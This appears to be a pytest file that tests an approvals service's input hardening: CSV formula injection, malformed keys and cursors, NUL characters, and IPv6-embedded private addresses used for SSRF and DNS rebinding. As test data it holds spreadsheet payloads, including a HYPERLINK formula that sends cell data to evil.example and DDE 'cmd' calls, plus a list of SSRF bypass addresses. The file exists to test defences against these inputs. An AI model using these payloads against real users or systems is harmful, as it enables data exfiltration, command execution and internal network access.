"""Input hardening (issue 16, items 3-6): CSV formula injection, undecodable keys and cursors, NUL
characters in text, and IPv6 addresses that embed a non-public IPv4 one."""

from __future__ import annotations

import asyncio
import base64
import csv
import http.client
import io
import ipaddress
import json
import socket
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from aiohttp import ClientResponse, ClientSession
from sqlalchemy import func, select

from app.chain_formats import csv_safe
from app.ssrf import CallbackAllowList, is_public
from approvals.identity.auditors import add_auditor_key
from approvals.tables import audit_events, decisions, outbox, requests, slack_clicks
from tests.conftest import Api, offer, run_cli, start_service, stop_service
from tests.receiver import Receiver
from tests.slack_helpers import SlackApi, slack_service, slash_command, view_submission

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def _error(resp: ClientResponse, status: int) -> dict[str, Any]:
    assert resp.status == status, await resp.text()
    body = await resp.json()
    assert set(body["error"]) == {"code", "message", "field"}
    return dict(body["error"])


async def _auditor_key(api: Api) -> str:
    async with api.container.engine.begin() as conn:
        return (await add_auditor_key(conn, name="hardening-auditor")).api_key


async def _counts(api: Api) -> tuple[int, int, int]:
    """Requests, audit events and outbox rows: what a refused request must leave unchanged."""
    async with api.container.engine.connect() as conn:
        counts = [
            int((await conn.execute(select(func.count()).select_from(table))).scalar_one())
            for table in (requests, audit_events, outbox)
        ]
    return counts[0], counts[1], counts[2]


# --- item 3: CSV exports cannot carry spreadsheet formulas ------------------------------------------------

HOSTILE_REFS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_safe_prefixes_formula_starts_and_leaves_the_rest() -> None:
    for value in HOSTILE_REFS:
        assert csv_safe(value) == "'" + value
    assert csv_safe("plain text") == "plain text"
    assert csv_safe("") == ""
    assert csv_safe(None) is None
    # Numbers the service computes stay numbers, even negative ones.
    assert csv_safe(-5) == -5
    assert csv_safe(3) == 3


def _assert_no_formula_cells(text: str, expected_refs: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert body, "the export holds no chains"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula cell {cell!r}"
    refs = sorted(row[header.index("outcome_ref")] for row in body if row[header.index("outcome_ref")])
    assert refs == sorted("'" + ref for ref in expected_refs)


async def _requests_with_hostile_refs(api: Api) -> None:
    for ref in HOSTILE_REFS:
        created = await (await api.post("/v1/requests", offer(action="read_mail"))).json()
        resp = await api.post(
            f"/v1/requests/{created['id']}/outcome", {"status": "failed", "external_ref": ref}
        )
        assert resp.status == 200, await resp.text()


async def test_the_csv_api_export_neutralises_formula_cells(api: Api) -> None:
    await _requests_with_hostile_refs(api)
    auditor = await _auditor_key(api)
    resp = await api.get("/v1/audit/chains?format=csv", key=auditor)
    assert resp.status == 200
    _assert_no_formula_cells(await resp.text(), HOSTILE_REFS)


async def test_the_csv_cli_export_neutralises_formula_cells(api: Api, database_url: str) -> None:
    await _requests_with_hostile_refs(api)
    done = await run_cli(database_url, "audit", "export", "--format", "csv")
    assert done.returncode == 0, done.stderr
    _assert_no_formula_cells(done.stdout, HOSTILE_REFS)


# --- item 4: undecodable bearer keys and crafted cursors are 4xx JSON errors -----------------------------


def _raw_get(base: str, path: str, authorization: bytes) -> tuple[int, bytes]:
    """A GET with header bytes no well-behaved client would send (http.client passes bytes through)."""
    parts = urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
    try:
        conn.putrequest("GET", path)
        conn.putheader("Authorization", authorization)
        conn.endheaders()
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


@pytest.mark.parametrize(
    "authorization",
    [
        "Bearer apk_é".encode(),  # valid UTF-8, not ASCII
        "Bearer ключ".encode(),
        b"Bearer apk_\xff\xfe",  # not UTF-8 at all
        b"Bearer \xc3",  # a truncated UTF-8 sequence
        b"Bearer apk_\xed\xa0\x80",  # an encoded surrogate
        b"Bearer \x80" * 3,
    ],
)
async def test_a_non_ascii_bearer_key_is_a_401(api: Api, authorization: bytes) -> None:
    status, body = await asyncio.to_thread(_raw_get, api.base, "/v1/requests/req_x", authorization)
    assert status == 401, body
    error = json.loads(body)["error"]
    assert error["code"] in ("invalid_key", "missing_key")


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode()


@pytest.mark.parametrize(
    "cursor",
    [
        "!!!not-base64!!!",
        "é",
        _b64(b"no separator"),
        _b64(b"\xff\xfe|req_x"),  # not UTF-8
        _b64(b"2026-01-01|req_x"),  # a time without a zone
        _b64(b"2026-01-01T00:00:00|req_x"),
        _b64(b"9999-12-31T23:59:59-23:59|req_x"),  # beyond the largest time once in UTC
        _b64(b"0001-01-01T00:00:00+23:59|req_x"),  # before the smallest
        _b64(b"2026-01-01T00:00:00+00:00|req_\x00"),
        _b64(b"2026-01-01T00:00:00+00:00|" + "é".encode() * 50),
        _b64(b"2026-01-01T00:00:00+00:00|" + b"r" * 5000),
    ],
)
async def test_a_crafted_cursor_is_a_4xx_naming_the_cursor(api: Api, cursor: str) -> None:
    await api.post("/v1/requests", offer())
    auditor = await _auditor_key(api)
    resp = await api.get(f"/v1/audit/chains?cursor={quote(cursor)}", key=auditor)
    assert resp.status in (400, 422), await resp.text()
    error = await _error(resp, resp.status)
    assert (error["code"], error["field"]) == ("invalid_cursor", "cursor")


async def test_a_cursor_the_api_returned_still_pages(api: Api) -> None:
    for _ in range(3):
        await api.post("/v1/requests", offer())
    auditor = await _auditor_key(api)
    first = await (await api.get("/v1/audit/chains?limit=2", key=auditor)).json()
    assert first["next_cursor"]
    rest = await (
        await api.get(f"/v1/audit/chains?limit=2&cursor={first['next_cursor']}", key=auditor)
    ).json()
    assert (len(first["chains"]), len(rest["chains"]), rest["next_cursor"]) == (2, 1, None)


# --- item 5: a NUL character never reaches a text column ------------------------------------------------

NUL = "\x00"


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"title": f"Offer{NUL}"}, "title"),
        ({"summary": f"{NUL}starts"}, "summary"),
        ({"on_behalf_of": f"recruiter@example.com{NUL}"}, "on_behalf_of"),
        ({"params": {"candidate": f"J.{NUL}Doe"}}, "params.candidate"),
        ({"params": {f"cand{NUL}idate": "J. Doe"}}, "params.cand\\u0000idate"),
        ({"params": {"a": {"b": [1, {"c": f"x{NUL}"}]}}}, "params.a.b.1.c"),
        ({"links": ["https://ats.example.com/1", f"https://ats.example.com/{NUL}"]}, "links.1"),
        ({"callback_url": f"https://agent.example.com/cb{NUL}"}, "callback_url"),
        ({"action": f"send_offer_letter{NUL}"}, "action"),
        ({"params": {"lone": "\ud800"}}, "params.lone"),  # a lone surrogate cannot be stored either
    ],
)
async def test_nul_in_a_new_request_is_a_422_and_writes_nothing(
    api: Api, change: dict[str, Any], field: str
) -> None:
    before = await _counts(api)
    error = await _error(await api.post("/v1/requests", offer(**change)), 422)
    assert (error["code"], error["field"]) == ("invalid_text", field)
    assert await _counts(api) == before


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"status": "failed", "detail": f"smtp{NUL}down"}, "detail"),
        ({"status": "succeeded", "external_ref": f"{NUL}"}, "external_ref"),
    ],
)
async def test_nul_in_an_outcome_is_a_422_and_writes_nothing(
    api: Api, body: dict[str, Any], field: str
) -> None:
    created = await (await api.post("/v1/requests", offer(action="read_mail"))).json()
    before = await _counts(api)
    error = await _error(await api.post(f"/v1/requests/{created['id']}/outcome", body), 422)
    assert (error["code"], error["field"]) == ("invalid_text", field)
    assert await _counts(api) == before
    view = await (await api.get(f"/v1/requests/{created['id']}")).json()
    assert view["outcome"] is None


async def test_nul_in_a_cancel_body_is_a_422_and_cancels_nothing(api: Api) -> None:
    created = await (await api.post("/v1/requests", offer())).json()
    before = await _counts(api)
    error = await _error(await api.post(f"/v1/requests/{created['id']}/cancel", {"reason": f"x{NUL}"}), 422)
    assert (error["code"], error["field"]) == ("invalid_text", "reason")
    assert await _counts(api) == before
    assert (await (await api.get(f"/v1/requests/{created['id']}")).json())["status"] == "pending"


def _post_with_idempotency_key(base: str, key: str, body: bytes, idempotency_key: bytes) -> tuple[int, bytes]:
    parts = urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
    try:
        conn.putrequest("POST", "/v1/requests")
        conn.putheader("Authorization", f"Bearer {key}")
        conn.putheader("Content-Type", "application/json")
        conn.putheader("Idempotency-Key", idempotency_key)
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


@pytest.mark.parametrize("idempotency_key", [b"key\x00one", b"key\xffone", b"\xed\xa0\x80"])
async def test_an_unstorable_idempotency_key_is_refused_and_writes_nothing(
    api: Api, idempotency_key: bytes
) -> None:
    before = await _counts(api)
    body = json.dumps(offer()).encode()
    status, answer = await asyncio.to_thread(
        _post_with_idempotency_key, api.base, api.key, body, idempotency_key
    )
    if b"\x00" in idempotency_key:
        # aiohttp's HTTP parser refuses a NUL in any header with its own 400, before the service runs.
        assert status == 400, answer
    else:
        assert status == 422, answer
        assert json.loads(answer)["error"]["field"] == "Idempotency-Key"
    assert await _counts(api) == before


@pytest.mark.parametrize("name", ["agent", "policy", "action", "approver", "status", "outcome"])
async def test_nul_in_an_audit_query_parameter_is_a_422(api: Api, name: str) -> None:
    await api.post("/v1/requests", offer())
    auditor = await _auditor_key(api)
    error = await _error(await api.get(f"/v1/audit/chains?{name}=x%00y", key=auditor), 422)
    assert (error["code"], error["field"]) == ("invalid_text", name)


@pytest.mark.parametrize("path", ["/v1/requests/req_%00", "/v1/audit/chains/req_%00"])
async def test_nul_in_a_path_id_is_a_4xx(api: Api, path: str) -> None:
    auditor = await _auditor_key(api)
    key = auditor if "audit" in path else api.key
    resp = await api.session.get(api.url(path), headers=api.headers(key))
    assert resp.status in (404, 422), await resp.text()
    await _error(resp, resp.status)


@pytest.fixture
async def slack(database_url: str) -> AsyncIterator[SlackApi]:
    async for api in slack_service(database_url):
        yield api


async def test_nul_in_a_reject_reason_is_refused_in_the_modal(slack: SlackApi) -> None:
    created = await (await slack.post("/v1/requests", offer())).json()
    assert slack.fake is not None
    await slack.fake.wait_for_calls("chat.postMessage", 1)
    metadata = json.dumps({"request_id": created["id"], "action_ts": "1.2", "channel_id": "C0HIRING"})
    resp = await slack.slack(view_submission(metadata, f"Salary{NUL} above band", user="U01COO"))
    assert resp.status == 200
    body = await resp.json()
    assert body["response_action"] == "errors"
    assert "reason_block" in body["errors"]
    async with slack.container.engine.connect() as conn:
        for table in (decisions, slack_clicks):
            assert (await conn.execute(select(func.count()).select_from(table))).scalar_one() == 0
    # The approver can correct it: the same modal with a clean reason is recorded.
    resp = await slack.slack(view_submission(metadata, "Salary above band", user="U01COO"))
    assert resp.status == 200
    view = await slack.final(created["id"])
    assert (view["status"], view["reason"]) == ("rejected", "Salary above band")


# --- item 6: IPv6 addresses that embed a non-public IPv4 one -------------------------------------------

EMBEDDING_PRIVATE = [
    "::7f00:1",  # IPv4-compatible 127.0.0.1
    "::a9fe:a9fe",  # IPv4-compatible 169.254.169.254
    "64:ff9b::7f00:1",  # NAT64 127.0.0.1
    "64:ff9b::a9fe:a9fe",  # NAT64 cloud metadata
    "64:ff9b:1::a00:1",  # local-use NAT64 (RFC 8215), never global
    "2002:7f00:1::1",  # 6to4 of 127.0.0.1
    "2002:a9fe:a9fe::1",  # 6to4 of 169.254.169.254
    "2001:0:4136:e378:8000:63bf:80ff:fffe",  # Teredo, client 127.0.0.1 (XOR-ed)
    "2001:0:4136:e378:8000:63bf:f5ff:fffe",  # Teredo, client 10.0.0.1
    "fec0::1",  # site-local
    "::ffff:127.0.0.1",  # IPv4-mapped
    "::ffff:a9fe:a9fe",
    "::ffff:0:7f00:1",  # IPv4-translated
    "::ffff:0:a00:1",
]
EMBEDDING_PUBLIC = ["64:ff9b::808:808", "2002:808:808::1", "::ffff:8.8.8.8", "2606:4700:4700::1111"]


@pytest.mark.parametrize("address", EMBEDDING_PRIVATE)
def test_an_ipv6_address_embedding_a_private_ipv4_is_not_public(address: str) -> None:
    assert not is_public(ipaddress.ip_address(address))


@pytest.mark.parametrize("address", EMBEDDING_PUBLIC)
def test_an_ipv6_address_embedding_a_public_ipv4_stays_public(address: str) -> None:
    assert is_public(ipaddress.ip_address(address))


def test_the_allow_list_covers_the_ipv4_an_ipv6_address_embeds() -> None:
    allow = CallbackAllowList.parse(["10.0.0.0/8"])
    assert allow.allows_address(ipaddress.ip_address("::ffff:10.1.2.3"))
    assert allow.allows_address(ipaddress.ip_address("64:ff9b::a01:203"))
    assert not allow.allows_address(ipaddress.ip_address("64:ff9b::7f00:1"))
    # Teredo embeds a server and a client: the packet goes to the client, so an allowed server is not enough.
    assert not allow.allows_address(ipaddress.ip_address("2001:0:a00:1:8000:63bf:80ff:fffe"))  # 127.0.0.1
    assert allow.allows_address(ipaddress.ip_address("2001:0:a00:1:8000:63bf:f5ff:fffe"))  # client 10.0.0.1


@pytest.mark.parametrize("address", EMBEDDING_PRIVATE)
async def test_an_embedding_ipv6_callback_is_refused_at_intake(api: Api, address: str) -> None:
    before = await _counts(api)
    error = await _error(await api.post("/v1/requests", offer(callback_url=f"http://[{address}]/cb")), 422)
    assert (error["code"], error["field"]) == ("callback_url_forbidden", "callback_url")
    assert await _counts(api) == before


async def test_a_public_nat64_callback_is_still_accepted(api: Api) -> None:
    resp = await api.post("/v1/requests", offer(callback_url="http://[64:ff9b::808:808]/cb"))
    assert resp.status == 201, await resp.text()


async def test_the_allow_list_still_lets_an_embedded_private_address_through(database_url: str) -> None:
    container, server = await start_service(database_url, callback_allow_hosts=["10.0.0.0/8", "fec0::/10"])
    try:
        async with ClientSession() as session:
            api = Api(session=session, base=str(server.make_url("")), key="", container=container)
            api.key = await api.add_agent("cb-bot", ["send_offer_letter"])
            for address in ("::ffff:10.9.8.7", "64:ff9b::a09:807", "fec0::1"):
                resp = await api.post("/v1/requests", offer(callback_url=f"http://[{address}]/cb"))
                assert resp.status == 201, await resp.text()
            refused = await api.post("/v1/requests", offer(callback_url="http://[::ffff:0:7f00:1]/cb"))
            assert refused.status == 422
    finally:
        await stop_service(container, server)


def _fake_dns(answers: dict[str, list[str]]) -> None:
    """Made-up host names answer with the next address in their list (IPv4 or IPv6) at each lookup."""
    loop = asyncio.get_running_loop()
    real = loop.getaddrinfo
    calls: dict[str, int] = {}

    async def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if not (isinstance(host, str) and host in answers):
            return await real(host, port, *args, **kwargs)
        n = calls[host] = calls.get(host, -1) + 1
        address = answers[host][min(n, len(answers[host]) - 1)]
        if ":" in address:
            return [(socket.AF_INET6, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (address, int(port), 0, 0))]
        return [(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (address, int(port)))]

    loop.getaddrinfo = getaddrinfo  # type: ignore[method-assign]


@pytest.mark.parametrize("address", ["::7f00:1", "64:ff9b::7f00:1", "2002:7f00:1::1", "::ffff:0:7f00:1"])
async def test_a_callback_resolving_to_an_embedding_ipv6_at_delivery_is_not_sent(
    database_url: str, receiver: Receiver, address: str
) -> None:
    """DNS rebinding to an IPv6 form of loopback: public when accepted, refused by the send-time check."""
    container, server = await start_service(database_url)
    loop = asyncio.get_running_loop()
    real = loop.getaddrinfo
    try:
        _fake_dns({"rebind.test": ["8.8.8.8", address]})
        async with ClientSession() as session:
            api = Api(session=session, base=str(server.make_url("")), key="", container=container)
            api.key = await api.add_agent("cb-bot", ["read_*"])
            assert receiver.server is not None
            url = f"http://rebind.test:{receiver.server.port}/cb"
            created = await (await api.post("/v1/requests", offer(action="read_x", callback_url=url))).json()
            await container.dispatcher.run_until_idle()
            view = await (await api.get(f"/v1/requests/{created['id']}")).json()
        [attempt] = [d for d in view["deliveries"] if d["kind"] == "callback"]
        # Refused by the guard (failed, naming the address), not a connection error to retry.
        assert attempt["result"] == "failed", attempt
        assert address in json.dumps(attempt) and "non-public" in json.dumps(attempt)
        assert receiver.received == []
    finally:
        loop.getaddrinfo = real  # type: ignore[method-assign]
        await stop_service(container, server)


async def test_nul_in_slash_command_text_still_lists_pending_requests(slack: SlackApi) -> None:
    """The command's text is never stored (the listener reads only who asked): a NUL in it changes nothing."""
    await slack.post("/v1/requests", offer())
    assert slack.fake is not None
    await slack.fake.wait_for_calls("chat.postMessage", 1)
    form = slash_command(f"list{NUL}all")
    resp = await slack.slack_form(form)
    assert resp.status == 200
    body = await resp.json()
    assert body["response_type"] == "ephemeral"
    assert "Send offer letter to J. Doe" in json.dumps(body["blocks"])
